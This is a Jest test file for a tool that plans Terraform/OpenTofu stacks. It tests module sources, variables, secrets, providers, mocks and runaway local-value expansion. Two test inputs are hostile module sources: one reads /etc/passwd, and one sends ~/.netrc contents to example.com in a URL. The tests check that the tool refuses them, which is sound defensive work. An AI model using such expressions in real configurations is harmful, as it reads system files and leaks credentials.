import { join } from "node:path";
import { stackFrom } from "../../../src/plan/plan";
import { checkMocks, mocksFor } from "../../../src/plan/prepare/made-up-values";
import { moduleId, requirementsOf } from "../../../src/plan/prepare/modules";
import { addressed, preparedJob, secretTexts } from "../../../src/plan/prepare/prepare";
import { writeRecord } from "../../../src/providers/initialized-folder";
import { type JsonObject, objectOf } from "../../../src/stack/json";
import { readStack } from "../../../src/stack/stack";
import { inFolder, writeFiles } from "../../support/hand-off";
import { plannable } from "../../support/plannable";

/** The sections of a stack that can be planned. */
const prepared = (json: JsonObject) => plannable(json).changed.stack.sections;

describe("a stack that calls modules", () => {
  test("fails where nothing is downloaded: modules in folders", () => {
    expect(() => plannable({}, { module: { m: { source: "../m" } } })).toThrow(
      "the existing version of the stack: module.m must have a source that init can download, got the folder '../m'",
    );
  });

  test.each<JsonObject>([
    { source: '${file("/etc/passwd")}' },
    { source: 'https://example.com/${urlencode(file("~/.netrc"))}.zip' },
    { source: "a/b/c", version: "${local.v}" },
    { source: "%{ if true }a/b/c%{ endif }" },
  ])("fails before a download that OpenTofu would evaluate: %j", (call) => {
    expect(() => plannable({ module: { m: call } })).toThrow(
      "the stack: module.m must have a source and a version without expressions; write them out",
    );
  });
});

describe("values of variables", () => {
  const variable = { given: {}, defaulted: { default: null }, both: { default: 1 } };

  test("are those of declared variables; the others keep their defaults", () => {
    const { existing, changed } = plannable({ variable }, { variable: { other: {} } }, { given: null, both: 2, other: 3 });
    expect(changed.variables).toEqual({ given: null, both: 2 });
    expect(existing?.variables).toEqual({ other: 3 });
  });

  test("fail without a stack trace if a required one is missing", () => {
    const message = "the stack: no value for one, two; add a value to variables for each one without a default";
    const wrong = { variable: { one: { type: "string" }, two: [{}], three: { default: "" } } };
    expect(() => plannable(wrong)).toThrow(expect.objectContaining({ message, stack: `PlanError: ${message}` }));
  });

  test("fail if neither version declares the variable", () => {
    expect(() => plannable({ variable }, { variable }, { given: 1, x: 1, toString: 1 })).toThrow(
      "the stack has no variable x, toString; it has given, both, defaulted",
    );
  });

  test("are secrets if the variable is sensitive or ephemeral, defaults included, the longest text first", () => {
    const secrets = {
      a: { sensitive: true },
      b: { ephemeral: true, default: { key: ["canary", "", 1] } },
      c: { default: "not secret" },
    };
    expect(secretTexts(plannable({ variable: secrets }, undefined, { a: "canary-4f1c" }))).toEqual(["canary-4f1c", "canary"]);
  });
});

const BUILT_IN = { source: "terraform.io/builtin/terraform" };

describe("required providers", () => {
  test("include those that Terraform infers, and the built-in one, whose schemas modules may need", () => {
    const { terraform } = requirementsOf(
      plannable({
        resource: { random_pet: { a: {} }, terraform_data: { b: {} }, x_y: { c: { provider: "${other.alias}" } } },
        provider: { time: {} },
      }).changed,
    );
    expect(terraform).toEqual({
      required_providers: {
        other: { source: "hashicorp/other" },
        random: { source: "hashicorp/random" },
        time: { source: "hashicorp/time" },
        terraform: BUILT_IN,
      },
    });
  });

  test.each<[JsonObject, string[]]>([
    [{ terraform: { source: "x/terraform" } }, ["terraform", "built_in"]],
    [{ own: { source: "terraform.io/builtin/terraform" } }, ["own"]],
  ])("have the built-in one by one name: %j", (given, names) => {
    const { terraform } = requirementsOf(plannable({ terraform: { required_providers: given } }).changed);
    expect(Object.keys(objectOf(objectOf(terraform).required_providers)).sort()).toEqual([...names].sort());
  });
});

test("modules are downloaded once for each source, with the provider configurations that they are given", () => {
  const call = { source: "x/y/z", version: "1.0.0", name: "n", providers: { azurerm: "azurerm.two" } };
  const json: JsonObject = {
    provider: { azurerm: [{ features: {} }, { alias: "two", features: {} }, { alias: "two" }] },
    module: { a: call, b: [{ ...call }] },
  };
  const { module, provider } = requirementsOf(plannable(json).changed);
  expect(module).toEqual({ [moduleId(call)]: { source: "x/y/z", version: "1.0.0", providers: { azurerm: "azurerm.two" } } });
  expect(provider).toEqual({ azurerm: [{ alias: "two" }] });
  expect(moduleId(call)).not.toBe(moduleId({ ...call, version: "2.0.0" }));
});

describe("local values that name others again and again", () => {
  /** Each names the next one, as often as asked for, and the last one is given. */
  const chain = (length: number, times: number, last: string): JsonObject => ({
    locals: {
      ...Object.fromEntries(Array.from({ length }, (_, index) => [`l${index}`, `\${local.l${index + 1}}`.repeat(times)])),
      [`l${length}`]: last,
    },
  });

  test.each([
    ["forty that double", chain(40, 2, "x")],
    [
      "those in expressions",
      {
        locals: {
          a: '${format("%s%s", local.b, local.b)}',
          b: ["${local.c}"],
          ...objectOf(chain(40, 2, "x").locals),
          c: "${local.l0}",
        },
      },
    ],
  ])("are refused by a sentence before any engine reads them: %s", (_what, json) => {
    expect(() => prepared(json)).toThrow(
      /^the stack: local value '\w+' would be longer than 1073741824 characters, since it refers to local values that refer to others over and over; write it without them$/,
    );
  });

  test.each([
    ["twenty that double", chain(20, 2, "x")],
    ["a circle, which the engine refuses", { locals: { a: "${local.b}${local.b}", b: "${local.a}${local.a}" } }],
    ["one that is not there", { locals: { a: "${local.b}" } }],
  ])("are prepared where they end: %s", (_what, json) => {
    expect(Object.keys(objectOf(prepared(json).locals)).length).toBeGreaterThan(0);
  });
});

test.each([
  ["[]", "is not a stack: it must be an object"],
  ["{", "is not JSON"],
  ['{ "resource": 1 }', "is not a stack: resource must be an object"],
])("a file has no stack with %s", (text, reason) => {
  inFolder((folder) => {
    const path = join(writeFiles(folder, { "cdk.tf.json": text }), "cdk.tf.json");
    expect(() => stackFrom(path)).toThrow(`${path} ${reason}`);
  });
});

test("a stack is the JSON, which may be empty, the path of it, or nothing else", () => {
  expect(stackFrom({}).blocks).toEqual([]);
  expect(() => stackFrom("missing.json")).toThrow("missing.json cannot be read; give the JSON of a stack, such as cdktf.out/");
  expect(() => stackFrom(JSON.parse("7"))).toThrow("must be a TerraformStack, its JSON or the path of that, got 7");
  expect(() => stackFrom({ resource: 1 })).toThrow("the given JSON is not a stack: resource must be an object");
});

describe("mocks", () => {
  const stack = readStack({
    data: { vault: { one: {} } },
    ephemeral: { secret: { two: {} } },
    resource: { registry: { acr: { for_each: {} } } },
    check: { open: { data: { http: { page: {} } } } },
  });

  test("are about a type or an address of the stack, or of one of several", () => {
    const known = ["data.vault", "data.vault.one", "ephemeral.secret", "registry", 'registry.acr["eu.west"]', "data.http"];
    expect(() => checkMocks([stack], Object.fromEntries(known.map((key) => [key, {}])))).not.toThrow();
    const other = readStack({ resource: { subnet: { a: {} } } });
    const mocks = { registry: { name: "a" }, "subnet.a": { name: "b" } };
    expect(() => checkMocks([stack, other], mocks)).not.toThrow();
    expect(mocksFor([other], mocks)).toEqual({ "subnet.a": { name: "b" } });
  });

  test.each(["vault", "data.vault.two", "registry.acr2", "data.registry.acr", "toString", ""])("are refused for %j", (key) => {
    expect(() => checkMocks([stack], { [key]: {} })).toThrow(
      `mocks are by type or address, and the stack has no ${key}; it has data.http, data.vault, ephemeral.secret, registry`,
    );
  });

  test("of modules may have any type, but no address of the stack", () => {
    const calling = readStack({ module: { m: { source: "a/b/c" } } });
    expect(() => checkMocks([calling], { registry: {}, "data.vault": {} })).not.toThrow();
    expect(() => checkMocks([calling], { "registry.acr": {} })).toThrow("the stack has no registry.acr; it has no blocks");
  });
});

test("each block tells its address, with the key of its instance and as it was before moves", () => {
  const stack = readStack({
    resource: { a: { one: { name: "n" }, counted: { count: 2 }, each: { for_each: {} }, now: {} }, terraform_data: { own: {} } },
    data: { b: { found: {} }, terraform_remote_state: { other: {} } },
    module: { m: { source: "x/y/z" } },
    moved: [{ from: "a.before", to: "a.now" }],
  });
  const { resource, data, module } = addressed(stack);
  expect(resource).toEqual({
    a: {
      one: { name: "n", stack_tools_address: "a.one" },
      counted: { count: 2, stack_tools_address: "a.counted[${count.index}]" },
      each: { for_each: {}, stack_tools_address: "a.each[${jsonencode(each.key)}]" },
      now: { stack_tools_address: "a.before" },
    },
    terraform_data: { own: { stack_tools_address: "terraform_data.own" } },
  });
  expect(data).toEqual({
    b: { found: { stack_tools_address: "data.b.found" } },
    terraform_remote_state: { other: { stack_tools_address: "data.terraform_remote_state.other" } },
  });
  expect(module).toEqual({ m: { source: "x/y/z" } });
});

test("the later version deletes with the providers of the earlier one, and knows types of checks and attributes that are read", () => {
  inFolder((folder) => {
    const initialized = (name: string, ...providers: readonly string[]) => {
      const path = join(folder, name);
      const files = providers.map((one) => [`.terraform/providers/r/h/${one}/1.0.0/linux_amd64/terraform-provider-${one}`, ""]);
      const locks = providers.map((one) => `provider "r/h/${one}" {\n  version = "1.0.0"\n}\n`);
      writeFiles(path, { ...Object.fromEntries(files), ".terraform.lock.hcl": locks.join("") });
      writeRecord(path);
      return path;
    };
    const existing = { resource: { a: { one: {} }, b: { gone: {} } }, output: { id: { value: "${a.one.id}" } } };
    const changed = { resource: { a: { one: {} } }, check: { c: { data: { d: { found: {} } } } } };
    const folders = { existing: initialized("old", "a", "b"), changed: initialized("new", "a") };
    const { types, versions } = preparedJob("tofu", plannable(changed, existing), folders, {});
    expect(versions.changed.providers.map(({ address }) => address)).toEqual(["r/h/a", "r/h/b"]);
    expect(versions.changed.read).toEqual({ "a.one": ["id"] });
    expect([...types].sort()).toEqual(["a", "b", "d"]);
  });
});
